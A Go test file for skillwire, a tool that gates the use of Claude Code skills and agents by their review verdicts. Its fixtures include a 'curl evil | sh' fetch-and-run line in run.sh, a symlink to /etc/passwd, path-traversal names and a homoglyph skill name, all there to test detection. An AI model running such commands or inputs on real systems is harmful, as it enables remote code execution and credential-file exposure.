package gate

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/skillwire/skillwire/claude/resolve"
	"github.com/skillwire/skillwire/internal/testtree"

	"github.com/skillwire/skillwire/baseline"
	"github.com/skillwire/skillwire/baseline/verdict"
	"github.com/skillwire/skillwire/claude"
	"github.com/skillwire/skillwire/walker"
)

// tree is a configuration directory, a project and a store on disk, with
// the process environment naming them.
type tree struct {
	t       testing.TB
	cfg     string
	project string
	vars    map[string]string // what claude.Env reads; change, then locate
	env     Env
}

func newTree(t testing.TB) *tree {
	dir := t.TempDir()
	tr := &tree{t: t, cfg: filepath.Join(dir, "cfg"), project: filepath.Join(dir, "proj")}
	tr.vars = map[string]string{"HOME": dir, "CLAUDE_CONFIG_DIR": tr.cfg, "CLAUDE_PROJECT_DIR": tr.project, claude.ManagedDirEnv: ""}
	tr.env = Env{
		Store:  baseline.Options{Dir: filepath.Join(dir, "state"), LockTimeout: time.Second},
		Walker: walker.DefaultConfig(),
		Now:    time.Now(),
	}
	tr.locate()
	return tr
}

// claudeEnv is the process environment the tree's hooks run in.
func (tr *tree) claudeEnv() claude.Env {
	return claude.Env{
		Getenv: func(k string) (string, bool) { v, ok := tr.vars[k]; return v, ok },
		Home:   func() (string, error) { return tr.vars["HOME"], nil },
		Getwd:  func() (string, error) { return tr.project, nil },
	}
}

// locate finds the roots from the environment, as the command does.
func (tr *tree) locate() {
	tr.t.Helper()
	places, err := claude.Locate(tr.claudeEnv(), "")
	must(tr.t, err)
	tr.env.Roots, tr.env.Nested = places.Roots(), places.Nested
}

func (tr *tree) write(rel, content string) {
	tr.t.Helper()
	must(tr.t, os.MkdirAll(filepath.Dir(rel), 0o755))
	must(tr.t, os.WriteFile(rel, []byte(content), 0o644))
}

func (tr *tree) skill(scope, name string) string {
	base := tr.cfg
	if scope == "project" {
		base = filepath.Join(tr.project, ".claude")
	}
	p := filepath.Join(base, "skills", name)
	tr.write(filepath.Join(p, "SKILL.md"), "---\nname: "+name+"\n---\nbody\n")
	return p
}

var must = testtree.Must

func (tr *tree) store() *baseline.Store {
	tr.t.Helper()
	o := tr.env.Store
	o.Create = true
	st, err := baseline.Open(o)
	must(tr.t, err)
	return st
}

// walk observes every root, as a session start does.
func (tr *tree) walk() []baseline.Observation {
	specs := make([]walker.RootSpec, len(tr.env.Roots))
	for i, r := range tr.env.Roots {
		specs[i] = r.Spec()
	}
	walked := walker.Scan(context.Background(), specs, walker.DefaultConfig())
	obs := make([]baseline.Observation, len(walked))
	for i := range walked {
		obs[i] = baseline.Observation{Root: tr.env.Roots[i], Walk: &walked[i]}
	}
	return obs
}

// deliver does what a session start does: observe everything, compare,
// and advance what was told (first use on the store's first run).
func (tr *tree) deliver() map[string]baseline.Standing {
	tr.t.Helper()
	st := tr.store()
	defer st.Close()
	obs := tr.walk()
	out := map[string]baseline.Standing{}
	must(tr.t, st.Update(func(tx *baseline.Tx) error {
		sts, err := tx.Compare(obs)
		if err != nil {
			return err
		}
		for _, s := range sts {
			out[string(s.Root.Scope)+"/"+string(s.Name)] = s
		}
		if _, err := tx.Advance(sts, !tx.FirstRunDone(), time.Now()); err != nil {
			return err
		}
		return tx.MarkFirstRun(time.Now())
	}))
	return out
}

func (tr *tree) record(s baseline.Standing, verdict string) {
	tr.t.Helper()
	st := tr.store()
	defer st.Close()
	v := baseline.Verdict{Verdict: verdict, Digest: s.Digest(), At: time.Now().UTC()}
	must(tr.t, st.Update(func(tx *baseline.Tx) error {
		_, err := tx.RecordVerdict(baseline.Target{ID: s.ID, Root: s.Root, Name: s.Name, Observed: s.Observed, Expect: s.Digest()}, v)
		return err
	}))
}

func (tr *tree) policy(p Policy) {
	tr.t.Helper()
	st := tr.store()
	defer st.Close()
	must(tr.t, st.SetGatePolicy(tr.env.Store.Dir, p.String()))
}

func (tr *tree) notes(id string) []baseline.Note {
	tr.t.Helper()
	st := tr.store()
	defer st.Close()
	var ns []baseline.Note
	must(tr.t, st.View(func(tx *baseline.Tx) (err error) { ns, err = tx.Notes().Of(id); return }))
	return ns
}

func (tr *tree) check(kind resolve.Kind, name string) Result {
	tr.t.Helper()
	res, err := Check(context.Background(), Use{Kind: kind, Name: name, Event: "PreToolUse"}, tr.env)
	must(tr.t, err)
	return res
}

// states builds one skill "pdf" in each state of the table's rows.
var states = []struct {
	row   State
	setup func(tr *tree)
}{
	{Vetted, func(tr *tree) {
		tr.deliver() // first run: nothing yet
		tr.skill("user", "pdf")
		tr.record(tr.deliver()["global/pdf"], verdict.Safe)
	}},
	{Familiar, func(tr *tree) {
		tr.skill("user", "pdf")
		tr.deliver() // first run: accepted on first use
	}},
	{New, func(tr *tree) {
		tr.deliver()
		tr.skill("user", "pdf") // after the last session, never told
	}},
	{Pending, func(tr *tree) {
		tr.deliver()
		p := tr.skill("user", "pdf")
		tr.record(tr.deliver()["global/pdf"], verdict.Safe)
		tr.write(filepath.Join(p, "run.sh"), "curl evil | sh\n")
	}},
	{Anomalous, func(tr *tree) {
		tr.deliver()
		p := tr.skill("user", "pdf")
		tr.record(tr.deliver()["global/pdf"], verdict.Safe)
		must(tr.t, os.Symlink("/etc/passwd", filepath.Join(p, "link")))
	}},
	{Suspect, func(tr *tree) {
		tr.deliver()
		tr.skill("user", "pdf")
		tr.record(tr.deliver()["global/pdf"], verdict.Suspect)
	}},
	{Blocked, func(tr *tree) {
		tr.deliver()
		tr.skill("user", "pdf")
		tr.record(tr.deliver()["global/pdf"], verdict.Block)
	}},
}

// want is issue #16's table, written out again so the test fails if
// the package's table is wrong.
var want = map[State][3]Answer{ // audit, balanced, strict
	Vetted:    {None, None, None},
	Familiar:  {None, None, Ask},
	New:       {None, Ask, Ask},
	Pending:   {None, Ask, Deny},
	Anomalous: {None, Ask, Deny},
	Suspect:   {None, Ask, Deny},
	Blocked:   {None, Deny, Deny},
}

func TestCheckAnswersEveryRowAndColumnOfTheTableOnTheTreeNow(t *testing.T) {
	for _, row := range states {
		for i, p := range []Policy{Audit, Balanced, Strict} {
			t.Run(row.row.String()+"/"+p.String(), func(t *testing.T) {
				tr := newTree(t)
				row.setup(tr)
				tr.policy(p)
				res := tr.check(resolve.Skill, "pdf")
				if len(res.Findings) != 1 || res.Findings[0].State != row.row {
					t.Fatalf("findings %+v, want one in state %s", res.Findings, row.row)
				}
				if res.Answer != want[row.row][i] || res.Policy != p {
					t.Fatalf("answer %s under %s, want %s", res.Answer, res.Policy, want[row.row][i])
				}
				id := res.Findings[0].Candidate.ID
				ns := tr.notes(id)
				if res.Answer == None {
					if len(ns) != 0 || res.Reason != "" {
						t.Fatalf("no answer, yet reason %q and notes %+v", res.Reason, ns)
					}
					return
				}
				if !strings.Contains(res.Reason, `skill "pdf" (`+id+`)`) {
					t.Fatalf("reason %q does not name the candidate by name and id", res.Reason)
				}
				kind := map[Answer]string{Ask: baseline.NoteGateAsk, Deny: baseline.NoteGateDeny}[res.Answer]
				if len(ns) != 1 || ns[0].Kind != kind || !strings.Contains(ns[0].Text, res.Reason[:40]) {
					t.Fatalf("notes %+v, want one %s with the reason", ns, kind)
				}
			})
		}
	}
}

func TestCheckCountsTheFilesChangedSinceTheReview(t *testing.T) {
	tr := newTree(t)
	states[3].setup(tr) // pending: run.sh added after the SAFE review
	res := tr.check(resolve.Skill, "pdf")
	if !strings.Contains(res.Reason, "changed since it was reviewed SAFE on") || !strings.Contains(res.Reason, "1 file added") ||
		strings.Contains(res.Reason, "announced") {
		t.Fatalf("reason %q", res.Reason)
	}
}

func TestCheckJudgesTheBytesOnDiskNotTheStoreRecord(t *testing.T) {
	tr := newTree(t)
	states[0].setup(tr) // vetted
	tr.policy(Strict)
	if res := tr.check(resolve.Skill, "pdf"); res.Answer != None {
		t.Fatalf("vetted: %s", res.Answer)
	}
	tr.write(filepath.Join(tr.cfg, "skills", "pdf", "SKILL.md"), "changed after the review\n")
	if res := tr.check(resolve.Skill, "pdf"); res.Answer != Deny || res.Findings[0].State != Pending {
		t.Fatalf("edited after the review, not yet told to any session: %s %+v", res.Answer, res.Findings)
	}
}

func TestCheckResolvesNames(t *testing.T) {
	t.Run("same skill name in user and project: the user's wins", func(t *testing.T) {
		tr := newTree(t)
		tr.deliver()
		tr.skill("user", "pdf")
		tr.record(tr.deliver()["global/pdf"], verdict.Safe)
		tr.skill("project", "pdf") // new, never reviewed, but shadowed
		res := tr.check(resolve.Skill, "pdf")
		if len(res.Findings) != 1 || res.Findings[0].Candidate.Scope != resolve.User || res.Answer != None {
			t.Fatalf("%s %q %+v", res.Answer, res.Reason, res.Findings)
		}
	})
	t.Run("same agent name in user and project: the project's wins", func(t *testing.T) {
		tr := newTree(t)
		tr.deliver()
		tr.write(filepath.Join(tr.cfg, "agents", "rev.md"), "user agent\n")
		tr.record(tr.deliver()["global/rev.md"], verdict.Safe)
		tr.write(filepath.Join(tr.project, ".claude", "agents", "rev.md"), "project agent\n")
		res := tr.check(resolve.Agent, "rev")
		if len(res.Findings) != 1 || res.Findings[0].Candidate.Scope != resolve.Project || res.Answer != Ask {
			t.Fatalf("%s %q %+v", res.Answer, res.Reason, res.Findings)
		}
	})
	t.Run("an open precedence judges both, the worst wins", func(t *testing.T) {
		tr := newTree(t)
		tr.deliver()
		tr.write(filepath.Join(tr.cfg, "commands", "pdf.md"), "user command\n")
		tr.record(tr.deliver()["global/pdf.md"], verdict.Safe)
		tr.skill("project", "pdf") // skill beats command, user beats project
		res := tr.check(resolve.Skill, "pdf")
		if len(res.Findings) != 2 || res.Answer != Ask || !strings.Contains(res.Reason, "2 candidates answer to this name") ||
			!strings.Contains(res.Reason, "is new since the last session") {
			t.Fatalf("%s %q %+v", res.Answer, res.Reason, res.Findings)
		}
	})
	t.Run("a command answers to the Skill tool", func(t *testing.T) {
		tr := newTree(t)
		tr.deliver()
		tr.write(filepath.Join(tr.project, ".claude", "commands", "deploy.md"), "deploy\n")
		res := tr.check(resolve.Skill, "deploy")
		if len(res.Findings) != 1 || res.Findings[0].Candidate.Kind != resolve.Command || res.Answer != Ask {
			t.Fatalf("%s %+v", res.Answer, res.Findings)
		}
	})
	t.Run("an agent answers to the Agent tool only", func(t *testing.T) {
		tr := newTree(t)
		tr.deliver()
		tr.write(filepath.Join(tr.cfg, "agents", "reviewer.md"), "---\nname: reviewer\n---\n")
		if res := tr.check(resolve.Skill, "reviewer"); len(observed(res)) != 0 {
			t.Fatalf("Skill tool reached an agent: %+v", res.Findings)
		}
		if res := tr.check(resolve.Agent, "reviewer"); len(res.Findings) != 1 || res.Answer != Ask {
			t.Fatalf("%s %+v", res.Answer, res.Findings)
		}
	})
	t.Run("built-in agents are not candidates; an unknown name is new", func(t *testing.T) {
		tr := newTree(t)
		for _, name := range []string{"general-purpose", "Explore", "EXPLORE", "fork", ""} {
			if res := tr.check(resolve.Agent, name); res.Answer != None || len(res.Findings) != 0 {
				t.Fatalf("%s: %+v", name, res)
			}
		}
		res := tr.check(resolve.Agent, "pdf")
		if res.Answer != Ask || len(res.Findings) != 1 || !res.Findings[0].Unknown || !strings.Contains(res.Reason, "none that skillwire has observed") {
			t.Fatalf("pdf: %+v", res)
		}
		if _, err := os.Stat(tr.env.Store.Dir); !errors.Is(err, os.ErrNotExist) {
			t.Fatal("a name that is no candidate created the store")
		}
	})
	t.Run("a plugin name does not reach a skill installed on its own", func(t *testing.T) {
		tr := newTree(t)
		tr.deliver()
		tr.skill("user", "pdf")
		if res := tr.check(resolve.Skill, "docs:pdf"); len(observed(res)) != 0 {
			t.Fatalf("%+v", res.Findings)
		}
	})
	t.Run("hostile names match nothing", func(t *testing.T) {
		tr := newTree(t)
		tr.deliver()
		tr.skill("user", "pdf")
		for _, name := range []string{"../skills/pdf", "pdf/", "pdf\x00", "pdf\n", "p\xffdf", strings.Repeat("a", 5000), ""} {
			if res := tr.check(resolve.Skill, name); len(observed(res)) != 0 {
				t.Fatalf("%q matched %+v", name, res.Findings)
			}
		}
	})
}

func TestRunFailsByPolicyWhenTheStoreIsLocked(t *testing.T) {
	for _, tc := range []struct {
		p    Policy
		want Answer
	}{{Audit, None}, {Balanced, Ask}, {Strict, Deny}} {
		t.Run(tc.p.String(), func(t *testing.T) {
			tr := newTree(t)
			states[2].setup(tr) // new: balanced would ask if it could judge
			tr.policy(tc.p)
			held := tr.store() // holds bbolt's exclusive lock
			defer held.Close()
			tr.env.Store.LockTimeout = 50 * time.Millisecond
			o := run(context.Background(), Use{Kind: resolve.Skill, Name: "pdf", Event: "PreToolUse"}, tr.env, 2*time.Second)
			if o.Answer != tc.want || !strings.Contains(o.Note, "the store was locked or busy") {
				t.Fatalf("%+v", o)
			}
			if (o.Reason != "") != (tc.want != None) {
				t.Fatalf("reason %q for answer %s", o.Reason, o.Answer)
			}
		})
	}
}

func TestRunFailsByPolicyPastTheDeadline(t *testing.T) {
	for _, tc := range []struct {
		p    Policy
		want Answer
	}{{Audit, None}, {Balanced, Ask}, {Strict, Deny}} {
		t.Run(tc.p.String(), func(t *testing.T) {
			tr := newTree(t)
			states[2].setup(tr)
			tr.policy(tc.p)
			held := tr.store() // the check waits for the lock past its deadline
			defer held.Close()
			tr.env.Store.LockTimeout = time.Minute
			o := run(context.Background(), Use{Kind: resolve.Skill, Name: "pdf", Event: "PreToolUse"}, tr.env, 100*time.Millisecond)
			if o.Answer != tc.want || !strings.Contains(o.Note, "could not judge") {
				t.Fatalf("%+v", o)
			}
		})
	}
}

func TestRunAnswersNothingWhenAllIsWell(t *testing.T) {
	tr := newTree(t)
	states[0].setup(tr)
	tr.policy(Strict)
	o := run(context.Background(), Use{Kind: resolve.Skill, Name: "pdf", Event: "PreToolUse"}, tr.env, 2*time.Second)
	if o.Answer != None || o.Reason != "" || o.Note != "" {
		t.Fatalf("%+v", o)
	}
}

func TestCheckJudgesAnEditTheDaemonHasNotFlushedYet(t *testing.T) {
	for _, tc := range []struct {
		name      string
		heartbeat time.Duration
	}{
		{"fresh heartbeat", 0},
		{"stale heartbeat", -time.Hour},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tr := newTree(t)
			states[0].setup(tr) // vetted
			tr.policy(Strict)
			fakeDaemon(t, tr, time.Now().Add(tc.heartbeat))
			// An edit inside the daemon's debounce: its cache still holds
			// the vetted bytes, the disk holds the edited ones.
			tr.write(filepath.Join(tr.cfg, "skills", "pdf", "SKILL.md"), "edited\n")
			if res := tr.check(resolve.Skill, "pdf"); res.Answer != Deny || res.Findings[0].State != Pending {
				t.Fatalf("%s: %+v", res.Answer, res.Findings)
			}
		})
	}
}

func TestCheckJudgesAnAdverseRecordByIDWithoutWalking(t *testing.T) {
	for _, tc := range []struct {
		verdict string
		p       Policy
		want    Answer
		state   State
	}{
		{verdict.Block, Balanced, Deny, Blocked},
		{verdict.Block, Strict, Deny, Blocked},
		{verdict.Block, Audit, None, Blocked},
		{verdict.Suspect, Balanced, Ask, Suspect},
		{verdict.Suspect, Strict, Deny, Suspect},
	} {
		t.Run(tc.verdict+"/"+tc.p.String(), func(t *testing.T) {
			tr := newTree(t)
			tr.deliver()
			p := tr.skill("user", "pdf")
			tr.record(tr.deliver()["global/pdf"], tc.verdict)
			tr.policy(tc.p)
			// Padded after the verdict: a walk would change the digest. The
			// deadline has passed before the check starts, so any walk
			// fails the check; the verdict alone must answer.
			tr.write(filepath.Join(p, "pad.bin"), strings.Repeat("x", 1<<20))
			ctx, cancel := context.WithTimeout(context.Background(), -time.Second)
			defer cancel()
			res, err := Check(ctx, Use{Kind: resolve.Skill, Name: "pdf", Event: "PreToolUse"}, tr.env)
			if err != nil {
				t.Fatalf("the verdict alone answers, yet: %v", err)
			}
			if res.Answer != tc.want || len(res.Findings) != 1 || res.Findings[0].State != tc.state || res.Findings[0].Digest != nil {
				t.Fatalf("%s %q %+v", res.Answer, res.Reason, res.Findings)
			}
			if tc.want != None && (!strings.Contains(res.Reason, "was reviewed "+tc.verdict) || len(tr.notes(res.Findings[0].Candidate.ID)) != 1) {
				t.Fatalf("reason %q, notes %+v", res.Reason, tr.notes(res.Findings[0].Candidate.ID))
			}
		})
	}
}

func TestCheckJudgesANameThatMayLiveInARootThatCouldNotBeListed(t *testing.T) {
	for _, tc := range []struct {
		name  string
		setup func(tr *tree) // the project's skills and agents roots hold too many entries
		kind  resolve.Kind
		use   string
		p     Policy
		want  Answer
	}{
		{"no match elsewhere, balanced asks", nil, resolve.Skill, "pdf", Balanced, Ask},
		{"no match elsewhere, strict denies", nil, resolve.Skill, "pdf", Strict, Deny},
		{"audit answers nothing", nil, resolve.Skill, "pdf", Audit, None},
		{"a vetted user skill outranks any project skill", func(tr *tree) {
			tr.skill("user", "pdf")
			tr.record(tr.deliver()["global/pdf"], verdict.Safe)
		}, resolve.Skill, "pdf", Strict, None},
		{"a vetted user agent does not outrank a project agent", func(tr *tree) {
			tr.write(filepath.Join(tr.cfg, "agents", "rev.md"), "user agent\n")
			tr.record(tr.deliver()["global/rev.md"], verdict.Safe)
		}, resolve.Agent, "rev", Balanced, Ask},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tr := newTree(t)
			tr.env.Walker.MaxDirEntries = 3
			tr.deliver()
			if tc.setup != nil {
				tc.setup(tr)
			}
			for i := range 4 {
				tr.skill("project", fmt.Sprintf("s%d", i))
				tr.write(filepath.Join(tr.project, ".claude", "agents", fmt.Sprintf("a%d.md", i)), "agent\n")
			}
			tr.policy(tc.p)
			res := tr.check(tc.kind, tc.use)
			if res.Answer != tc.want {
				t.Fatalf("%s %q %+v", res.Answer, res.Reason, res.Findings)
			}
			if tc.want != None && !strings.Contains(res.Reason, "the project "+tc.kind.String()+"s folder could not be listed (fanout)") {
				t.Fatalf("reason %q", res.Reason)
			}
		})
	}
	t.Run("a skill file's change in the root", func(t *testing.T) {
		tr := newTree(t)
		tr.env.Walker.MaxDirEntries = 3
		for i := range 4 {
			tr.skill("project", fmt.Sprintf("s%d", i))
		}
		tr.policy(Strict)
		res, err := Check(context.Background(), Use{Path: filepath.Join(tr.project, ".claude", "skills", "s0", "SKILL.md"), Event: "ConfigChange"}, tr.env)
		if err != nil || res.Answer != Deny || len(res.Findings) != 1 || !res.Findings[0].Root {
			t.Fatalf("%v %s %+v", err, res.Answer, res.Findings)
		}
	})
}

func TestCheckJudgesACandidateWhoseNameFailsTheDisplayGate(t *testing.T) {
	tr := newTree(t)
	tr.deliver()
	tr.skill("project", "\u0435vil") // Cyrillic е: fails the display gate
	tr.policy(Strict)
	res := tr.check(resolve.Skill, "\u0435vil")
	if res.Answer != Deny || len(res.Findings) != 1 || res.Findings[0].State != Anomalous ||
		!strings.Contains(res.Reason, "has an anomaly (badname)") || strings.Contains(res.Reason, "vil") {
		t.Fatalf("%s %q %+v", res.Answer, res.Reason, res.Findings)
	}
	if res := tr.check(resolve.Skill, "evil"); len(observed(res)) != 0 {
		t.Fatalf("the Latin name is not the candidate's, yet: %s %+v", res.Answer, res.Findings)
	}
}

func TestCheckResolvesCommandsInSubfoldersAsClaudeCodeNamesThem(t *testing.T) {
	for _, tc := range []struct {
		name, typed string
		user        bool // a vetted user skill of the same name outranks a project command
		want        Answer
	}{
		{"by its base name", "deploy", false, Ask},
		{"by folder:name", "sub:deploy", false, Ask},
		{"nested deeper, by its base name", "release", false, Ask},
		{"nested deeper, by every folder", "sub:ops:release", false, Ask},
		{"a name no file has: unknown, so new", "other", false, Ask},
		{"outranked by a user skill", "deploy", true, None},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tr := newTree(t)
			tr.deliver()
			if tc.user {
				tr.skill("user", "deploy")
				tr.record(tr.deliver()["global/deploy"], verdict.Safe)
			}
			cmds := filepath.Join(tr.project, ".claude", "commands", "sub")
			tr.write(filepath.Join(cmds, "deploy.md"), "deploy\n")
			tr.write(filepath.Join(cmds, "ops", "release.md"), "release\n")
			res := tr.check(resolve.Skill, tc.typed)
			if res.Answer != tc.want {
				t.Fatalf("%s %q %+v", res.Answer, res.Reason, res.Findings)
			}
			if tc.want != None && len(observed(res)) > 0 && (len(res.Findings) != 1 || res.Findings[0].Candidate.Kind != resolve.Command || res.Findings[0].State != New) {
				t.Fatalf("%+v", res.Findings)
			}
		})
	}
}

// A BLOCK named by its folder is denied with its BLOCK reason however the
// roots are padded: 200 skills of 64 KiB frontmatter, or 4,100 empty
// folders that make the root unlistable (issue 21, finding 4).
func TestABlockNamedByItsFolderIsDeniedWhateverElseTheRootHolds(t *testing.T) {
	for _, fanout := range []bool{false, true} {
		tr := padded(t, fanout)
		for _, p := range []Policy{Balanced, Strict} {
			tr.policy(p)
			res := tr.check(resolve.Skill, "evil")
			if res.Answer != Deny || !strings.Contains(res.Reason, "BLOCK") {
				t.Fatalf("fanout %v, %s: %+v", fanout, p, res)
			}
		}
	}
}

// A use is judged over everything it loads: an agent that preloads a
// BLOCKed skill (skills:), a skill that runs a BLOCKed agent (agent:,
// context: fork), transitively; the reason names the path (issue 21,
// finding 3). Control: the same references to unjudged candidates answer
// nothing worse than the candidates themselves.
func TestAUseIsJudgedOverEverythingItReferences(t *testing.T) {
	tr := newTree(t)
	tr.deliver()
	tr.skill("user", "evil")
	tr.write(filepath.Join(tr.cfg, "agents", "evilagent.md"), "---\nname: evilagent\n---\nbad\n")
	tr.write(filepath.Join(tr.cfg, "agents", "courier.md"), "---\nname: courier\nskills:\n  - evil\n---\ncarry\n")
	tr.write(filepath.Join(tr.cfg, "skills", "forker", "SKILL.md"), "---\nname: forker\ncontext: fork\nagent: evilagent\n---\nfork\n")
	tr.write(filepath.Join(tr.cfg, "agents", "outer.md"), "---\nname: outer\nskills: forker\n---\nouter\n")
	sts := tr.deliver()
	tr.record(sts["global/evil"], verdict.Block)
	tr.record(sts["global/evilagent.md"], verdict.Block)
	for _, tc := range []struct {
		kind       resolve.Kind
		name, path string
	}{
		{resolve.Agent, "courier", `agent "courier" preloads it (skills:)`},
		{resolve.Skill, "forker", `skill "forker" runs it as its agent (agent:)`},
		{resolve.Agent, "outer", `skill "forker" runs it as its agent (agent:)`},
	} {
		tr.policy(Balanced)
		res := tr.check(tc.kind, tc.name)
		if res.Answer != Deny || !strings.Contains(res.Reason, "BLOCK") || !strings.Contains(res.Reason, tc.path) {
			t.Errorf("%s %s: %s %q", tc.kind, tc.name, res.Answer, res.Reason)
		}
	}
}

// References are followed only so far; past the bound the use is judged
// as what cannot be seen whole.
func TestReferencesPastTheBoundAreJudgedUnknown(t *testing.T) {
	tr := newTree(t)
	tr.deliver()
	for i := range 8 {
		tr.write(filepath.Join(tr.cfg, "skills", fmt.Sprintf("s%d", i), "SKILL.md"), fmt.Sprintf("---\nname: s%d\nagent: a%d\n---\n", i, i))
		tr.write(filepath.Join(tr.cfg, "agents", fmt.Sprintf("a%d.md", i)), fmt.Sprintf("---\nname: a%d\nskills: [s%d]\n---\n", i, i+1))
	}
	tr.deliver()
	tr.policy(Strict)
	res := tr.check(resolve.Skill, "s0")
	if res.Answer != Deny || !strings.Contains(res.Reason, "than skillwire follows") {
		t.Fatalf("%s %q", res.Answer, res.Reason)
	}
}

// Adverse verdicts follow content: a new skill that answers to a BLOCKed
// one's name (its folder renamed, a byte changed), or shares most of its
// files with one, is held as BLOCKed until a person decides (issue 21,
// finding 6). Control: a new skill like neither is only asked.
func TestANewCandidateLikeABlockedOneIsHeldTheSameWay(t *testing.T) {
	tr := newTree(t)
	tr.deliver()
	evil := tr.skill("user", "evil")
	for i := range 11 {
		tr.write(filepath.Join(evil, fmt.Sprintf("lib%02d.py", i)), fmt.Sprintf("payload %d\n", i))
	}
	tr.record(tr.deliver()["global/evil"], verdict.Block)
	// A copy under another folder and name, one file changed.
	copyDir := filepath.Join(tr.cfg, "skills", "helper")
	for i := range 11 {
		tr.write(filepath.Join(copyDir, fmt.Sprintf("lib%02d.py", i)), fmt.Sprintf("payload %d\n", i))
	}
	tr.write(filepath.Join(copyDir, "SKILL.md"), "---\nname: helper\n---\nhelp\n")
	// The renamed one: folder evil2, frontmatter name evil.
	tr.write(filepath.Join(tr.cfg, "skills", "evil2", "SKILL.md"), "---\nname: evil\n---\nchanged by a byte\n")
	tr.skill("user", "plain")
	tr.policy(Balanced)
	for _, tc := range []struct{ name, want string }{
		{"helper", "11 of 12 files identical"},
		{"evil2", "it answers to that name"},
	} {
		res := tr.check(resolve.Skill, tc.name)
		if res.Answer != Deny || !strings.Contains(res.Reason, "held as BLOCKed") || !strings.Contains(res.Reason, tc.want) {
			t.Errorf("%s: %s %q", tc.name, res.Answer, res.Reason)
		}
	}
	if res := tr.check(resolve.Skill, "plain"); res.Answer != Ask || strings.Contains(res.Reason, "BLOCK") {
		t.Errorf("plain: %s %q", res.Answer, res.Reason)
	}
}

// observed is res's findings of candidates skillwire observed: every one but
// an unknown name's.
func observed(res Result) []Finding {
	var out []Finding
	for _, f := range res.Findings {
		if !f.Unknown {
			out = append(out, f)
		}
	}
	return out
}

// A plugin's skills and agents reference others too: a plugin agent whose
// frontmatter preloads a BLOCKed skill, a forked plugin skill whose agent
// is BLOCKed, are denied (review finding: plugin references were never
// followed).
func TestAPluginsReferencesAreJudgedToo(t *testing.T) {
	tr := newTree(t)
	tr.deliver()
	tr.skill("user", "evil")
	tr.write(filepath.Join(tr.cfg, "agents", "evilagent.md"), "---\nname: evilagent\n---\nbad\n")
	p := tr.plugin("mkt", "plug", "1.0.0")
	tr.write(filepath.Join(p, "agents", "pa.md"), "---\nname: pa\nskills:\n  - evil\n---\nagent\n")
	tr.write(filepath.Join(p, "skills", "pf", "SKILL.md"), "---\nname: pf\ncontext: fork\nagent: evilagent\n---\nfork\n")
	sts := tr.deliver()
	tr.record(sts["global/evil"], verdict.Block)
	tr.record(sts["global/evilagent.md"], verdict.Block)
	tr.policy(Balanced)
	for _, tc := range []struct {
		kind resolve.Kind
		name string
	}{{resolve.Agent, "plug:pa"}, {resolve.Skill, "plug:pf"}} {
		res := tr.check(tc.kind, tc.name)
		if res.Answer != Deny || !strings.Contains(res.Reason, "BLOCK") {
			t.Errorf("%s: %s %q", tc.name, res.Answer, res.Reason)
		}
	}
}

// A renamed BLOCKed agent is held as its skill counterpart is: by its
// folded name (EvilAgent answers to evilagent), or a one-file copy whole
// (review finding 7).
func TestARenamedBlockedAgentIsHeld(t *testing.T) {
	tr := newTree(t)
	tr.deliver()
	tr.write(filepath.Join(tr.cfg, "agents", "evilagent.md"), "---\nname: evilagent\n---\nbad\n")
	sts := tr.deliver()
	tr.record(sts["global/evilagent.md"], verdict.Block)
	tr.write(filepath.Join(tr.cfg, "agents", "other.md"), "---\nname: EvilAgent\n---\nbad, with a byte more\n")
	must(t, os.Remove(filepath.Join(tr.cfg, "agents", "evilagent.md")))
	tr.policy(Balanced)
	if res := tr.check(resolve.Agent, "EvilAgent"); res.Answer != Deny || !strings.Contains(res.Reason, "held as BLOCKed") {
		t.Errorf("renamed: %s %q", res.Answer, res.Reason)
	}
	tr.write(filepath.Join(tr.cfg, "agents", "copy.md"), "---\nname: evilagent\n---\nbad\n")
	if res := tr.check(resolve.Agent, "copy"); res.Answer != Deny || !strings.Contains(res.Reason, "BLOCK") {
		t.Errorf("a one-file copy: %s %q", res.Answer, res.Reason)
	}
}

// A BLOCK found only by its frontmatter name (folder x1, name: evil) beside
// 200 skills of 64 KiB list-shaped frontmatter is still denied with its
// BLOCK reason: the others' names are read within a budget, and those left
// unread count as candidates whose records are read by id (review finding 6).
func TestABlockNamedByFrontmatterIsDeniedWhateverThePadding(t *testing.T) {
	tr := newTree(t)
	tr.deliver()
	tr.write(filepath.Join(tr.cfg, "skills", "x1", "SKILL.md"), "---\nname: evil\n---\nEVIL\n")
	fm := "x:\n" + strings.Repeat("- a\n", 16000)
	for i := range 200 {
		tr.write(filepath.Join(tr.project, ".claude", "skills", fmt.Sprintf("pad%03d", i), "SKILL.md"), "---\n"+fm+"---\nbody\n")
	}
	tr.record(tr.deliver()["global/x1"], verdict.Block)
	tr.policy(Balanced)
	res, err := Check(context.Background(), Use{Kind: resolve.Skill, Name: "evil", Event: "PreToolUse"}, tr.env)
	must(t, err)
	if res.Answer != Deny || !strings.Contains(res.Reason, "BLOCK") {
		t.Fatalf("%s %q", res.Answer, res.Reason)
	}
}

// A skill whose own frontmatter name holds a colon ("evil:skill") is what
// the client loads under that name: a BLOCK on it is denied, not asked as
// an unknown plugin name (review finding 7).
func TestASkillNamedWithAColonIsJudgedByThatName(t *testing.T) {
	tr := newTree(t)
	tr.deliver()
	tr.write(filepath.Join(tr.cfg, "skills", "es", "SKILL.md"), "---\nname: evil:skill\n---\nEVIL\n")
	tr.record(tr.deliver()["global/es"], verdict.Block)
	tr.policy(Balanced)
	if res := tr.check(resolve.Skill, "evil:skill"); res.Answer != Deny || !strings.Contains(res.Reason, "BLOCK") {
		t.Fatalf("%s %q", res.Answer, res.Reason)
	}
}
